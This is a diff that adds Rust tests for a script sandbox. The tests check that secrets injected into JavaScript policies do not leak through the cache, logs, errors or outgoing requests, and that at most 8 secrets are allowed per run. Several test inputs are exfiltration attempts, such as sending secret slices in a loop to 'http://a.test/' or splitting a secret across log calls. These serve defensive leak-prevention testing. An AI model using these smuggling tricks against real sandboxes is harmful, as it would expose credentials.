@@ -181,6 +181,80 @@ async fn the_cache_keeps_no_secret() {
 }
 
 #[tokio::test]
+async fn pieces_in_the_cache_are_judged_together() {
+    let (sandbox, _) = online().await;
+    let mut batch = batch_with(
+        vec![
+            policy(
+                "try { for (var i = 0; i < 20; i += 5) { cache.put('k' + i, '%SECRET:L%'.substr(i, 5), 60); } } catch (e) { return e instanceof TypeError; } return false;",
+            ),
+            policy(
+                "cache.put('graph', 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.another.token', 60); return '%SECRET:L%' !== cache.getIfPresent('graph');",
+            ),
+            policy(
+                "try { cache.put('a', 'x'.repeat(40000), 60); cache.put('b', 'y'.repeat(40000), 60); } catch (e) { return e.message.indexOf('64 KiB') > 0; } return '%SECRET:L%' === 0;",
+            ),
+        ],
+        Vec::new(),
+    );
+    batch.secrets = secrets(&[("L", "qwertzuiopasdfghjklm", None)]);
+    for record in sandbox.evaluate(batch).await {
+        assert_eq!(record.result, Ok(json!(true)), "{record:?}");
+    }
+    sandbox.stop().await;
+}
+
+#[tokio::test]
+async fn cut_and_scattered_texts_hold_no_part() {
+    let (sandbox, _) = online().await;
+    for source in [
+        "console.log('-'.repeat(65525) + '%SECRET:L%'); return true;",
+        "auditLog('-'.repeat(4090) + '%SECRET:L%'); return true;",
+        "httpGet('http://a.test/' + '-'.repeat(2028) + '%SECRET:L%'); return true;",
+        "throw new Error('-'.repeat(1010) + '%SECRET:L%');",
+        "auditLog('%SECRET:L%'.substr(0, 7)); auditLog('%SECRET:L%'.substr(7, 7)); return true;",
+        "console.log('%SECRET:L%'.substr(0, 7)); auditLog('%SECRET:L%'.substr(7, 7)); return true;",
+        "for (var i = 0; i < 20; i += 5) { httpGet('http://a.test/' + '%SECRET:L%'.substr(i, 5)); } return true;",
+    ] {
+        let mut batch = batch_with(vec![policy(source)], Vec::new());
+        batch.secrets = secrets(&[("L", "qwertzuiopasdfghjklm", None)]);
+        let record = sandbox.evaluate(batch).await.remove(0);
+        assert!(!format!("{record:?}").contains("qwe"), "{source}: {record:?}");
+    }
+    sandbox.stop().await;
+}
+
+#[tokio::test]
+async fn runs_with_secrets_have_limits() {
+    let (sandbox, _) = online().await;
+    let names: Vec<String> = (0..9).map(|at| format!("S{at}")).collect();
+    let list: Vec<(&str, &str, Option<&[&str]>)> =
+        names.iter().map(|name| (name.as_str(), "some value", None)).collect();
+    let sum = |count: usize| {
+        let all: Vec<String> = names.iter().take(count).map(|name| format!("'%SECRET:{name}%'")).collect();
+        format!("return ({}) !== '';", all.join(" + "))
+    };
+    let long = |repeat: usize| format!("return '%SECRET:S0%' && ['{}'.repeat({repeat})];", "é ".repeat(10));
+    let mut batch = batch_with(
+        vec![
+            policy(&sum(8)),
+            policy(&sum(9)),
+            script("h", ScriptKind::Host, "return '%SECRET:S0%' && ['a.example.com'];"),
+            script("r", ScriptKind::Host, &long(2500)),
+        ],
+        Vec::new(),
+    );
+    batch.secrets = secrets(&list);
+    let records = sandbox.evaluate(batch).await;
+    assert_eq!(records[0].result, Ok(json!(true)));
+    assert_eq!(kind(&records[1]), FailureKind::Syntax);
+    assert!(records[1].result.as_ref().unwrap_err().message.contains("more than 8 secrets"), "{records:?}");
+    assert!(records[2].result.is_ok(), "{:?}", records[2]);
+    assert_eq!(kind(&records[3]), FailureKind::WrongResult);
+    sandbox.stop().await;
+}
+
+#[tokio::test]
 async fn places_are_the_authors() {
     let (sandbox, _) = online().await;
     for (with, without) in [
